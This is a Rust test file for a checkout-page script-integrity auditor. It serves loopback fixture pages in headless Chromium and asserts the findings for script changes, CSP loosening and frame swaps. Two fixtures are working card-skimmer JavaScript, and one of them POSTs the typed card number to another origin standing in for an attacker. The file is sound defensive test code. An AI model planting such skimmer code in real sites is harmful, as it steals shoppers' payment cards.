//! `cardseal audit snapshot` then `check` in real headless Chromium against local fixture
//! pages on loopback, each a real attack or a real false alarm (issue 22, "Tested
//! against"): every fixture gives exactly its expected findings, the clean page and the
//! rotating nonce none; every JSON report validates against audit/report.schema.json.

// Test code: a failure here is a failed test.
#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "../common/audit_site.rs"]
mod audit_site;

use audit_site::*;
use std::path::PathBuf;

/// Quiet time after load: five times the tag manager's 200 ms delay, so that a busy
/// machine does not miss its injection.
const SETTLE: &str = "--settle-ms=1000";

const CSP: &str =
    "script-src 'self' 'nonce-{nonce}'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'";

const CHECKOUT: &str = r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title>
<script nonce="{nonce}">window.shop = { currency: "IDR" };</script>
<script src="/lib.js"></script>
<script type="module" src="/app.js"></script>
<script src="/gtm.js"></script>
</head><body><form id="pay">
<input data-cardseal="number" autocomplete="cc-number" inputmode="numeric">
<input data-cardseal="expiry" autocomplete="cc-exp">
<input data-cardseal="cvc" autocomplete="cc-csc">
<button type="button" onclick="window.paid = true">Pay</button>
<!--EXTRA-->
</form></body></html>"#;

/// A tag manager: loads the tags its configuration lists, after the page has loaded.
const GTM: &str = r#"addEventListener("load", () => setTimeout(async () => {
  const tags = await (await fetch("/tags.json")).json();
  for (const t of tags) { const s = document.createElement("script"); s.src = t; document.head.append(s); }
}, 200));"#;

const LIB: &str = "window.lib = { version: 1, worker: new Worker(\"/worker.js\") };";

fn in_page_site() -> Site {
    let s = Site::start();
    s.page("/checkout", &[("Content-Security-Policy", CSP)], CHECKOUT);
    s.page("/lib.js", &[], LIB);
    s.page(
        "/worker.js",
        &[],
        "self.onmessage = (e) => postMessage(e.data);",
    );
    s.page(
        "/app.js",
        &[],
        "import { fmt } from \"./util.js\"; window.fmt = fmt;",
    );
    s.page(
        "/util.js",
        &[],
        "import { deep } from \"./deep.js\"; export const fmt = (x) => deep + x;",
    );
    s.page("/deep.js", &[], "export const deep = \"IDR \";");
    s.page("/gtm.js", &[], GTM);
    s.page("/tags.json", &[], "[]");
    s
}

struct Run {
    dir: TempDir,
    inventory: PathBuf,
    reports: Vec<PathBuf>,
}

impl Run {
    fn snapshot(tag: &str, url: &str) -> Run {
        let dir = TempDir::new(tag);
        let inventory = dir.path("inventory.toml");
        let report = dir.path("snapshot.json");
        let o = cardseal(&[
            "audit",
            "snapshot",
            url,
            "--out",
            inventory.to_str().unwrap(),
            "--json",
            report.to_str().unwrap(),
            SETTLE,
        ]);
        assert_eq!(
            o.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&o.stdout)
        );
        Run {
            dir,
            inventory,
            reports: vec![report],
        }
    }

    /// Checks and returns the sorted finding kinds; asserts the exit code by meaning.
    fn check(&mut self, name: &str) -> Vec<String> {
        let report = self.dir.path(&format!("{name}.json"));
        let o = cardseal(&[
            "audit",
            "check",
            "--inventory",
            self.inventory.to_str().unwrap(),
            "--json",
            report.to_str().unwrap(),
            SETTLE,
        ]);
        let (kinds, code) = kinds(&report);
        assert_eq!(o.status.code(), Some(code as i32));
        assert_eq!(
            code,
            if kinds.is_empty() { 0 } else { 1 },
            "{name}: {kinds:?}"
        );
        self.reports.push(report);
        kinds
    }
}

impl Drop for Run {
    fn drop(&mut self) {
        if !std::thread::panicking() {
            validate_reports(&self.reports);
        }
    }
}

fn k(list: &[&str]) -> Vec<String> {
    let mut v: Vec<String> = list.iter().map(|s| (*s).to_owned()).collect();
    v.sort();
    v
}

#[test]
#[ignore = "needs Chromium: run by `make test-audit`"]
fn in_page_fixtures_give_exactly_their_findings() {
    let site = in_page_site();
    // The server really rotates its nonce on every response.
    let (a, b) = (site.head("/checkout"), site.head("/checkout"));
    assert_ne!(a, b, "the nonce must rotate");
    let mut run = Run::snapshot("in-page", &site.url("/checkout"));
    let inv = std::fs::read_to_string(&run.inventory).unwrap();
    for script in [
        "/lib.js",
        "/app.js",
        "/util.js",
        "/deep.js",
        "/gtm.js",
        "#inline-1",
    ] {
        assert!(inv.contains(script), "{script} missing from\n{inv}");
    }
    assert!(inv.contains("mode = \"in-page\""));

    // Clean, twice in a row: the capture is stable and the rotating nonce raises nothing.
    assert_eq!(run.check("clean-1"), k(&[]));
    assert_eq!(run.check("clean-2"), k(&[]));

    // An inline script changed by one character.
    site.page(
        "/checkout",
        &[("Content-Security-Policy", CSP)],
        &CHECKOUT.replace("IDR", "IDS"),
    );
    assert_eq!(run.check("inline-changed"), k(&["script_changed"]));
    site.page("/checkout", &[("Content-Security-Policy", CSP)], CHECKOUT);

    // An external script changed.
    site.page("/lib.js", &[], &LIB.replace("version: 1", "version: 2"));
    assert_eq!(run.check("external-changed"), k(&["script_changed"]));
    site.page("/lib.js", &[], LIB);

    // A module two imports deep changed.
    site.page("/deep.js", &[], "export const deep = \"IDR  \";");
    assert_eq!(run.check("module-deep-changed"), k(&["script_changed"]));
    site.page("/deep.js", &[], "export const deep = \"IDR \";");

    // The (approved, unchanged) tag manager injects a skimmer after load.
    site.page("/tags.json", &[], "[\"/skim.js\"]");
    site.page(
        "/skim.js",
        &[],
        "document.addEventListener(\"input\", (e) => { window.stash = e.target.value; });",
    );
    assert_eq!(run.check("tag-manager-injects"), k(&["script_added"]));
    site.page("/tags.json", &[], "[]");

    // A skimmer that posts the typed card to another origin.
    let evil = Site::start();
    site.page(
        "/skim2.js",
        &[],
        &format!(
            "document.addEventListener(\"change\", (e) => {{ if (e.target.autocomplete === \"cc-number\") \
             fetch(\"{}/collect\", {{ method: \"POST\", mode: \"no-cors\", body: JSON.stringify({{ n: e.target.value }}) }}); }}, true);",
            evil.origin()
        ),
    );
    site.page(
        "/checkout",
        &[("Content-Security-Policy", CSP)],
        &CHECKOUT.replace("<!--EXTRA-->", "<script src=\"/skim2.js\"></script>"),
    );
    assert_eq!(
        run.check("skimmer-posts-card"),
        k(&["card_sent", "script_added"])
    );

    // The CSP loosened with 'unsafe-inline'.
    let loose = CSP.replace("'self'", "'self' 'unsafe-inline'");
    site.page(
        "/checkout",
        &[("Content-Security-Policy", &loose)],
        CHECKOUT,
    );
    assert_eq!(run.check("csp-unsafe-inline"), k(&["csp_loosened"]));

    // The nonce gone from the policy.
    let no_nonce = CSP.replace(" 'nonce-{nonce}'", "");
    site.page(
        "/checkout",
        &[("Content-Security-Policy", &no_nonce)],
        &CHECKOUT.replace(" nonce=\"{nonce}\"", ""),
    );
    let found = run.check("csp-nonce-gone");
    assert!(found.contains(&"csp_loosened".to_owned()), "{found:?}");

    // A name added to a card input (in-page: a native submit would post it).
    site.page(
        "/checkout",
        &[("Content-Security-Policy", CSP)],
        &CHECKOUT.replace(
            "<input data-cardseal=\"cvc\"",
            "<input name=\"cvc\" data-cardseal=\"cvc\"",
        ),
    );
    assert_eq!(run.check("card-input-named"), k(&["card_input_named"]));
}

const FRAME_CHECKOUT: &str = r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title>
<script nonce="{nonce}">window.shop = { mode: "frame" };</script>
<script src="/loader.js"></script>
</head><body><form id="pay">
<iframe src="{HOLDER}/frame.html" title="card"></iframe>
<!--EXTRA-->
</form></body></html>"#;

const FRAME: &str = r#"<!doctype html><html><head><meta charset="utf-8"><script src="/frame.js"></script></head>
<body><input autocomplete="cc-number" inputmode="numeric"><input autocomplete="cc-exp"><input autocomplete="cc-csc"></body></html>"#;

#[test]
#[ignore = "needs Chromium: run by `make test-audit`"]
fn frame_mode_fixtures_give_exactly_their_findings() {
    // The holder on another site (localhost, not 127.0.0.1): its frame runs in its own
    // process, as a processor's does; the look-alike on the shop's site runs in the page's.
    let holder = Site::start();
    let holder_origin = format!("http://localhost:{}", holder.port);
    let shop = Site::start();
    let other = Site::start();
    let frame_csp = format!("script-src 'self'; frame-ancestors {}", shop.origin());
    holder.page(
        "/frame.html",
        &[("Content-Security-Policy", &frame_csp)],
        FRAME,
    );
    holder.page("/frame.js", &[], "window.frameReady = true;");
    other.page("/frame.html", &[], FRAME);
    other.page("/frame.js", &[], "window.frameReady = 'look-alike';");
    // No frame-src: the swapped frame must load for the audit to see it.
    let csp = CSP.to_owned();
    shop.var("HOLDER", &holder_origin);
    shop.page(
        "/checkout",
        &[("Content-Security-Policy", &csp)],
        FRAME_CHECKOUT,
    );
    shop.page("/loader.js", &[], "window.loader = 1;");
    let mut run = Run::snapshot("frame", &shop.url("/checkout"));
    let inv = std::fs::read_to_string(&run.inventory).unwrap();
    assert!(inv.contains("mode = \"frame\""), "{inv}");
    assert!(
        inv.contains(&format!("holder = \"{holder_origin}\"")),
        "{inv}"
    );

    assert_eq!(run.check("frame-clean-1"), k(&[]));
    assert_eq!(run.check("frame-clean-2"), k(&[]));

    // frame-ancestors removed from the frame.
    holder.page(
        "/frame.html",
        &[("Content-Security-Policy", "script-src 'self'")],
        FRAME,
    );
    assert_eq!(run.check("frame-ancestors-removed"), k(&["csp_loosened"]));
    holder.page(
        "/frame.html",
        &[("Content-Security-Policy", &frame_csp)],
        FRAME,
    );

    // A card input outside the holder's frame.
    shop.page(
        "/checkout",
        &[("Content-Security-Policy", &csp)],
        &FRAME_CHECKOUT.replace(
            "<!--EXTRA-->",
            "<input autocomplete=\"cc-csc\" placeholder=\"CVC\">",
        ),
    );
    assert_eq!(
        run.check("card-input-outside-frame"),
        k(&["card_input_outside_frame"])
    );

    // The frame's src swapped for a look-alike on another origin.
    shop.var("HOLDER", &other.origin());
    shop.page(
        "/checkout",
        &[("Content-Security-Policy", &csp)],
        FRAME_CHECKOUT,
    );
    assert_eq!(
        run.check("frame-src-swapped"),
        k(&[
            "card_input_outside_frame",
            "card_input_outside_frame",
            "card_input_outside_frame",
            "frame_added",
            "frame_removed",
            "script_added",
            "script_removed",
        ])
    );
}

#[test]
#[ignore = "needs Chromium: run by `make test-audit`"]
fn could_not_check_is_its_own_exit_code() {
    let dir = TempDir::new("error");
    let report = dir.path("r.json");
    // Nothing listens on this port: the page cannot load.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let o = cardseal(&[
        "audit",
        "snapshot",
        &format!("http://127.0.0.1:{port}/checkout"),
        "--out",
        dir.path("inv.toml").to_str().unwrap(),
        "--json",
        report.to_str().unwrap(),
        "--timeout=10",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(kinds(&report).1, 2);
    assert!(
        !dir.path("inv.toml").exists(),
        "no inventory from a failed capture"
    );
    // An inventory without pages checks nothing: not "clean".
    std::fs::write(dir.path("empty.toml"), "version = 1\nmode = \"in-page\"\n").unwrap();
    let o = cardseal(&[
        "audit",
        "check",
        "--inventory",
        dir.path("empty.toml").to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    // A file that is not an inventory is not overwritten by a snapshot.
    std::fs::write(dir.path("notes.toml"), "my notes").unwrap();
    let o = cardseal(&[
        "audit",
        "snapshot",
        "http://127.0.0.1:1/",
        "--out",
        dir.path("notes.toml").to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        std::fs::read_to_string(dir.path("notes.toml")).unwrap(),
        "my notes"
    );
    assert!(String::from_utf8_lossy(&o.stdout).contains("not overwriting"));
    // A missing inventory is "could not check" too.
    let o = cardseal(&[
        "audit",
        "check",
        "--inventory",
        dir.path("none.toml").to_str().unwrap(),
        "--json",
        report.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    validate_reports(&[report]);
}
